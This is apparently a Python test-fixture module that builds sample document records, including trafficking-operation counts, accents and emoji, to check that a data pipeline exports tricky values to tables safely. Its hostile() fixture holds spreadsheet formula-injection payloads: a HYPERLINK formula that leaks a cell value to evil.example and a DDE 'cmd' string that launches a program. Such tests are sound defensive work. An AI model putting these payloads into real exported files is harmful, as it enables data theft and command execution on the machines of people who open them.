"""Documents with everything that is hard to write into a table."""

from pipeline.records import Count, DocumentRecords, Evidence, Record, RecordEvidence, Source, Unassigned

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Épervier")'


def libertad() -> DocumentRecords:
    """Ranges, hedges, parts, a total, an open period, accents, an emoji."""
    victims = Count(
        category="victims",
        value=94,
        presumed=True,
        where=["GY"],
        label="jeunes filles 🙂",
        including=[Count(category="minors", value=85)],
        evidence=[Evidence(start=3, end=15, text="94 victimes", rule="victims: digits")],
    )
    named = Record(
        operation="Libertad",
        dates="2018-04-03/2018-04-09",
        countries=["GY", "LC"],
        counts=[
            victims,
            Count(category="officers", value=500, modifier="more_than"),
            Count(category="arrests", value=[200, 300]),
        ],
        evidence=RecordEvidence(operation=[Evidence(start=20, end=28, text="Libertad", rule="name")]),
    )
    total = Record(dates="2016-04/..", counts=[Count(category="drugs", value=0.25, unit="kg", modifier="at_most")], total=True)
    return DocumentRecords(
        doc_id="fr/libertad",
        language="fr",
        published="2018-04-30",
        records=[named, total],
        source=Source(path="corpus/fr/libertad.txt", url="https://example.org/libertad?a=1&b=2", title="Opération «Libertad»"),
        unassigned=[Unassigned(start=40, end=42, text="34", value=34, reason="an age")],
    )


def hostile() -> DocumentRecords:
    """Formulas, control characters, quotes, separators and line breaks wherever a document has its words."""
    count = Count(
        category="money",
        value=1_000_000,
        unit="EUR",
        label="@SUM(1+1)*cmd|' /C calc'!A0",
        evidence=[Evidence(start=0, end=9, text='one, "two"\r\n-three;=1+1\x07 _x0041_ #N/A', rule="+rule")],
    )
    record = Record(operation=HOSTILE, dates="XXXX-09-29", counts=[count])
    return DocumentRecords(
        doc_id="en/=1+1",
        language="en",
        records=[record],
        source=Source(path="\tcorpus/=1+1.txt", url="-1+1", title="#N/A"),
    )


def silent() -> DocumentRecords:
    """A text that reports nothing."""
    return DocumentRecords(doc_id="en/silent", language="en")
